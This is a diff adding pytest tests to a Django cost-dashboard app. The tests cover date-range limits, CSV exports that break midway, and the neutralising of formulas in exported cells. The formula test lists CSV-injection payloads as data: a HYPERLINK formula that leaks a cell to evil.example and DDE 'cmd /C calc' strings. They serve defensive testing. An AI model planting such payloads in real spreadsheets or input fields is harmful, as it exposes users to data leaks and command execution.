@@ -5,15 +5,19 @@ from __future__ import annotations
 import re
 from datetime import timedelta
 from decimal import Decimal
+from pathlib import Path
 
+import httpx
 import pytest
+from asgiref.sync import sync_to_async
 from django.core.management import call_command
 from django.db import connection
 from django.utils import timezone
 
 from conversations.costs import ledger
+from conversations.costs import views as costs_views
 from conversations.models import CostLog, Message
-from tests.accounts import make_user
+from tests.accounts import PASSWORD, make_user
 from tests.costs import conversation, ended_without_cost, log_cost, read_csv
 
 pytestmark = pytest.mark.django_db
@@ -168,6 +172,105 @@ def test_it_refuses_a_filter_it_cannot_apply(staff_client):
     assert response.status_code == 400 and "There is no user named “nobody”" in response.content.decode()
     assert staff_client.get("/dashboard/costs/ledger.csv?from=yesterday").status_code == 400
     assert staff_client.get("/dashboard/costs/secrets.csv").status_code == 404
+
+
+# --- dates out of range, exports that break, formulas in cells ----------------------------
+
+
+@pytest.mark.parametrize(
+    "query", ["to=9999-12-31", "from=9999-12-01", "from=0001-01-01&to=0001-01-31", "to=2101-01-01"]
+)
+@pytest.mark.parametrize("table", ["", "ledger.csv", "users.csv", "models.csv"])
+def test_it_refuses_dates_out_of_range_with_a_message(staff_client, table, query):
+    response = staff_client.get(f"/dashboard/costs/{table}?{query}")
+    assert response.status_code == 400
+    assert "Pick a day between 1 January 2000 and 31 December 2100." in response.content.decode()
+
+
+def test_the_widest_period_allowed_still_works(staff_client, alice):
+    log_cost(alice, "0.5")
+    page = staff_client.get("/dashboard/costs/?from=2000-01-01&to=2100-12-31").content.decode()
+    assert total_cost(page) == "$0.5"
+    rows = read_csv(staff_client.get("/dashboard/costs/ledger.csv?from=2000-01-01&to=2100-12-31"))
+    assert [r["cost_total"] for r in rows] == ["0.5"]
+
+
+def _rows_then_a_failure(real_rows):
+    def rows(scope):
+        yield from real_rows(scope)
+        raise RuntimeError("the database went away")
+
+    return rows
+
+
+def test_an_export_that_breaks_midway_ends_the_file_and_says_so(staff_client, alice, monkeypatch, caplog):
+    log_cost(alice, "0.5")
+    monkeypatch.setattr(costs_views, "_ledger_rows", _rows_then_a_failure(costs_views._ledger_rows))
+    response = staff_client.get("/dashboard/costs/ledger.csv")
+    assert response.status_code == 200
+    lines = b"".join(response.streaming_content).decode().splitlines()  # no exception out of the stream
+    assert lines[0].startswith("time,user,") and ",0.5," in lines[1]
+    assert lines[2] == costs_views.CUT_SHORT and len(lines) == 3
+    assert "the database went away" in caplog.text
+
+
+@pytest.mark.django_db(transaction=True)
+async def test_an_export_that_breaks_midway_under_asgi_ends_the_file_too(async_client, monkeypatch, caplog):
+    staff = await sync_to_async(make_user)("staff", is_staff=True)
+    await sync_to_async(log_cost)(staff, "0.5")
+    await async_client.aforce_login(staff)
+    monkeypatch.setattr(costs_views, "_ledger_rows", _rows_then_a_failure(costs_views._ledger_rows))
+    response = await async_client.get("/dashboard/costs/ledger.csv")
+    assert response.status_code == 200
+    text = "".join([part.decode() async for part in response.streaming_content])
+    assert text.splitlines()[-1] == costs_views.CUT_SHORT
+    assert "the database went away" in caplog.text
+
+
+def test_daphne_answers_a_date_out_of_range_and_keeps_serving(demo_app):
+    """The URL that used to raise inside a started response, under Daphne itself."""
+    with httpx.Client(base_url=demo_app.url) as browser:
+        browser.get("/accounts/signup/")
+        signed_up = browser.post(
+            "/accounts/signup/",
+            data={"username": "staff", "password1": PASSWORD, "password2": PASSWORD},
+            headers={"X-CSRFToken": browser.cookies["csrftoken"]},
+        )
+        assert signed_up.status_code == 302  # the first account: staff
+        response = browser.get("/dashboard/costs/ledger.csv?to=9999-12-31")
+        assert response.status_code == 400 and "Pick a day between" in response.text
+        export = browser.get("/dashboard/costs/ledger.csv", headers={"Connection": "close"})
+        assert export.status_code == 200 and export.text.startswith("time,user,")
+    assert "Exception inside application" not in Path(demo_app.log.name).read_text()
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_the_csv_defuses_formulas_in_text_cells(staff_client, payload):
+    user = make_user("-1+1")  # a valid user name, and a formula
+    chat = conversation(user, payload)
+    log_cost(user, "0.5", chat=chat, service="=svc", model="+model", tokens=(24, 512), warnings=[payload, "ok"])
+
+    (row,) = read_csv(staff_client.get("/dashboard/costs/ledger.csv"))
+    assert row["conversation_title"] == "'" + payload
+    assert row["warnings"] == "'" + payload + " | ok"
+    assert (row["user"], row["service"], row["model"]) == ("'-1+1", "'=svc", "'+model")
+    assert (row["cost_total"], row["input_tokens"], row["total_tokens"]) == ("0.5", "24", "536")  # numbers as they were
+    assert row["conversation"] == str(chat.pk)
+
+    (row,) = read_csv(staff_client.get("/dashboard/costs/users.csv"))
+    assert (row["user"], row["cost_total"], row["generations"]) == ("'-1+1", "0.5", "1")
+    (row,) = read_csv(staff_client.get("/dashboard/costs/models.csv"))
+    assert (row["service"], row["model"], row["cost_total"]) == ("'=svc", "'+model", "0.5")
 
 
 def test_it_counts_answers_with_no_cost_reported_and_with_warnings(staff_client, alice, bob):
